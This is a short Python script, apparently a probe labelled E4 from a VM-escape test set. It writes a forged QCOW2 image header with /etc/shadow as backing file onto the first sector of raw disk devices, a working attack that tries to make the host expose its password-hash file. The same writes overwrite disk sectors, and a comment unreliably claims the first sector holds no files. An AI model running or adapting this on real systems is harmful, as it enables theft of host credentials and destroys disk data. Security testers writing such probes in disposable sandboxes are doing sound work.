"""E4: writes a disk image's header, with /etc/shadow behind it, over spare room of the disks it can open."""

import os
import struct

if not os.path.isdir("/usr/lib/probes"):
    raise SystemExit("only in a machine that is thrown away")
name = b"/etc/shadow"
header = struct.pack(">4sIQI", b"QFI\xfb", 3, 104, len(name)).ljust(104, b"\0") + name
for disk in ("/dev/vda", "/dev/vdb", "/dev/sda"):
    try:
        fd = os.open(disk, os.O_WRONLY)
        os.pwrite(fd, header, 0)  # the first sector of a disk without partitions holds no files
        os.fsync(fd)
    except OSError:
        pass
